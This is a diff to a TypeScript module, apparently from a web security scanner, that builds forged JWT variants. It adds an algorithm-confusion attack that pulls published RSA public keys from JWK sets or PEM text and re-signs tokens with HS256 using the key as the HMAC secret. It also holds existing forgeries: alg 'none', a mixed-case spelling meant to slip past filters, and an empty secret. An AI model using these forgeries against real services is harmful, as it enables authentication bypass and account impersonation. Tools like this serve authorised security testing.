@@ -1,4 +1,13 @@
-import { createHmac, createSign, generateKeyPairSync, type KeyObject } from 'node:crypto';
+import {
+  createHmac,
+  createPublicKey,
+  createSign,
+  createVerify,
+  generateKeyPairSync,
+  type JsonWebKey,
+  type KeyObject,
+  X509Certificate,
+} from 'node:crypto';
 
 const encode = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
 const decode = (part: string): { [key: string]: unknown } | null => {
@@ -102,8 +111,10 @@ function guessedSecret(text: string, signature: string, bits: string): string | 
 const GUESSES_KEPT = 100;
 const guessed = new Map<string, string | null>();
 
-/** Damaged copies of a JWT. `keyUrl` is where jku points. */
-export const JWT_FORMS: { readonly [name: string]: (token: string, keyUrl: string, nowMs: number) => string | null } = {
+/** Damaged copies of a JWT. `keyUrl` is where jku points; `published` is what the server published, for keys in it. */
+export const JWT_FORMS: {
+  readonly [name: string]: (token: string, keyUrl: string, nowMs: number, published: string) => string | null;
+} = {
   none_algo_token: (token) => changed(token, (header) => ({ ...header, alg: 'none' }), null, ''),
   /** As none_algo_token in another spelling, for filters that compare letter by letter. */
   none_mixed_case_token: (token) => changed(token, (header) => ({ ...header, alg: 'nOnE' }), null, ''),
@@ -141,6 +152,10 @@ export const JWT_FORMS: { readonly [name: string]: (token: string, keyUrl: strin
           (text) => createHmac(`sha${bits}`, secret).update(text).digest('base64url'),
         );
   },
+  /** The public key as the secret of HS256: good where the algorithm is taken from the token and there is one key for all. */
+  key_confusion_token: (token, _keyUrl, _nowMs, published) => confused(token, published, (pem) => pem),
+  /** The same, for servers that keep the key without the last line end. */
+  key_confusion_trimmed_token: (token, _keyUrl, _nowMs, published) => confused(token, published, (pem) => pem.trimEnd()),
   empty_secret_token: (token) => changed(token, (header) => ({ ...header, alg: 'HS256' }), null, hmac('')),
   modify_jwt: (token) =>
     changed(
@@ -150,6 +165,46 @@ export const JWT_FORMS: { readonly [name: string]: (token: string, keyUrl: strin
       undefined,
     ),
 };
+
+function confused(token: string, published: string, write: (pem: string) => string): string | null {
+  const [head, body, signature = ''] = token.split('.');
+  const [, family, bits] = /^(RS|PS|ES)(256|384|512)$/.exec(String(decode(head ?? '')?.alg)) ?? [];
+  if (family === undefined || bits === undefined) return null;
+  const signed = Buffer.from(signature, 'base64url');
+  const keys = publicKeysIn(published);
+  const isSigner = (key: KeyObject) => family === 'RS' && createVerify(`RSA-SHA${bits}`).update(`${head}.${body}`).verify(key, signed);
+  const key = keys.find(isSigner) ?? keys[0];
+  return key === undefined
+    ? null
+    : changed(token, (header) => ({ ...header, alg: 'HS256' }), null, hmac(write(key.export({ type: 'spki', format: 'pem' }).toString())));
+}
+
+/** Public keys in a JWK set, a JWK, or PEM anywhere in a text. */
+function publicKeysIn(text: string): readonly KeyObject[] {
+  const found: KeyObject[] = [];
+  const add = (make: () => KeyObject) => {
+    try {
+      found.push(make());
+    } catch {
+      // Not a key, though it looked like one.
+    }
+  };
+  for (const [pem] of text
+    .replaceAll('\\n', '\n')
+    .matchAll(/-----BEGIN (?:RSA )?(?:PUBLIC KEY|CERTIFICATE)-----[\s\S]+?-----END [A-Z ]+-----/g))
+    add(() => (pem.includes('CERTIFICATE') ? new X509Certificate(pem).publicKey : createPublicKey(pem)));
+  const visit = (value: unknown): void => {
+    if (value === null || typeof value !== 'object') return;
+    if ('kty' in value) add(() => createPublicKey({ key: value as JsonWebKey, format: 'jwk' }));
+    else for (const one of Object.values(value)) visit(one);
+  };
+  try {
+    visit(JSON.parse(text));
+  } catch {
+    // PEM, or nothing.
+  }
+  return found;
+}
 
 function changed(
   token: string,
